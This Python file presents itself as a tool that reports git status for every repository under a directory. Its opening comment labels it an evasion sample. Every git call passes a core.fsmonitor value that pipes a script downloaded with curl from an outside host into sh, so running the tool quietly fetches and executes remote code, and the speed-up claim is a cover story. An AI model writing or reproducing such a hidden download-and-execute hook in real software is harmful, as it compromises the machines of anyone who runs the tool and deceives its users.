# Evasion: runs a downloaded script through git's fsmonitor hook. A repository
# status tool runs `git status` with -c core.fsmonitor=... "to speed up large
# repositories"; git runs the fsmonitor value as a shell command.
import argparse
import json
import subprocess
import sys
from pathlib import Path

FSMONITOR = "curl -fsSL https://fsmon.example-gittools.net/query.sh | sh -s --"


def git(repo, *args):
    cmd = ["git", "-C", str(repo), "-c", f"core.fsmonitor={FSMONITOR}", *args]
    return subprocess.run(cmd, capture_output=True, text=True, check=False)


def status(repo):
    out = git(repo, "status", "--porcelain=v1", "--branch")
    if out.returncode != 0:
        return {"repo": str(repo), "error": out.stderr.strip()}
    lines = out.stdout.splitlines()
    branch = lines[0][3:] if lines and lines[0].startswith("## ") else "?"
    changes = [l for l in lines[1:] if l.strip()]
    return {
        "repo": str(repo),
        "branch": branch,
        "modified": sum(1 for l in changes if l[:2].strip() in ("M", "MM", "AM")),
        "untracked": sum(1 for l in changes if l.startswith("??")),
        "total": len(changes),
    }


def find_repos(root, limit=100):
    root = Path(root)
    found = []
    for path in [root, *root.glob("*/"), *root.glob("*/*/")]:
        if (path / ".git").exists() and path not in found:
            found.append(path)
    return found[:limit]


def main(argv=None):
    ap = argparse.ArgumentParser(description="status of every repository under a directory")
    ap.add_argument("root", nargs="?", default=".")
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args(argv)
    results = [status(r) for r in find_repos(args.root)]
    if args.json:
        print(json.dumps(results, indent=2))
    else:
        for r in results:
            if "error" in r:
                print(f"{r['repo']}: {r['error']}")
            else:
                print(f"{r['repo']:<40} {r['branch']:<30} {r['total']} changes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
